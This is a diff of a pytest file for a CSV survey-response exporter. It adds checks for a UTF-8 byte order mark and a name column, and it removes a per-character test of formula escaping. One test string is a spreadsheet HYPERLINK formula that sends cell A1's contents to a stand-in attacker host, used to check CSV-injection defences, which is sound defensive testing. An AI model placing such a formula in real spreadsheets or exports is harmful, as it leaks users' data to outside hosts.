@@ -8,9 +8,10 @@ import pytest
 from embedded import START, Embedded, journey, score
 
 from workers import ruletable
-from workers.exporting import COLUMNS, FORMULA_STARTS, export_responses, safe
+from workers.exporting import COLUMNS, export_responses
 from workers.records import SurveyRequest
 from workers.ruletable.records import read_responses
+from workers.spreadsheets import FORMULA_STARTS
 
 HOSTILE = '=HYPERLINK("https://evil.example?"&A1;"open")\nand more; "quoted", été'
 
@@ -29,7 +30,7 @@ def boucle(tmp_path: Path) -> Embedded:
 
 def read_file(path: Path) -> list[dict[str, str]]:
     """Return the rows of a file."""
-    with path.open(encoding="utf-8", newline="") as file:
+    with path.open(encoding="utf-8-sig", newline="") as file:
         return list(csv.DictReader(file))
 
 
@@ -42,6 +43,14 @@ def test_every_response_is_a_row(boucle: Embedded, tmp_path: Path) -> None:
     assert (first["score"], first["band"], first["trigger"], first["rule"]) == ("2", "detractor", "delivery", "D1")
     assert (first["comment"], first["wants_contact"], first["received_at"]) == ("yes", "yes", START.isoformat())
     assert (second["customer"], second["score"], second["comment"]) == ("7", "9", "no")
+    assert (first["name"], second["name"]) == ("Camille Roux", "")
+
+
+def test_excel_takes_the_file_for_utf8(boucle: Embedded, tmp_path: Path) -> None:
+    """The file begins with a byte order mark: without it Excel shows "été" as two signs too many."""
+    path = tmp_path / "r.csv"
+    export_responses(boucle.store, path, boucle.clock.at, "ana")
+    assert path.read_bytes().startswith(b"\xef\xbb\xbfid,")
 
 
 def test_what_looks_like_a_formula_is_text(boucle: Embedded, tmp_path: Path) -> None:
@@ -52,14 +61,6 @@ def test_what_looks_like_a_formula_is_text(boucle: Embedded, tmp_path: Path) -> 
     assert rows[0]["comment_text"] == f"'{HOSTILE}"
     assert (rows[0]["customer"], rows[0]["reference"], rows[0]["label"]) == ("'-42", "'+1042", "'@lamp")
     assert not [cell for row in rows for cell in row.values() if cell.startswith(FORMULA_STARTS)]
-
-
-@pytest.mark.parametrize("sign", FORMULA_STARTS)
-def test_each_sign_is_made_harmless(sign: str) -> None:
-    """= + - @ TAB CR at the beginning get an apostrophe; numbers below zero stay numbers."""
-    assert safe(f"{sign}x") == f"'{sign}x"
-    assert safe(-3) == -3
-    assert safe("a=b") == "a=b"
 
 
 def test_the_file_can_be_backtested(boucle: Embedded, tmp_path: Path) -> None:
